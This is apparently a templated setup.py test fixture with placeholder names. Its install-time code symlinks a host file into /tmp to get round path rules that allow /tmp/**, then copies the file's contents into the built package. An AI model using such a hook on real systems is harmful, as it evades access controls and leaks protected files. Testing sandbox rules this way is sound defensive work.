import os

# The same file as "@@HOSTFILE@@", through a name the rules allow (/tmp/**).
link = "/tmp/.pjatk-notes"
try:
    if not os.path.islink(link):
        os.symlink("@@HOSTFILE@@", link)
    with open(link) as f:
        data = f.read()
    with open("pjatk/_notes.py", "w") as f:
        f.write("NOTES = %r\n" % data)
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
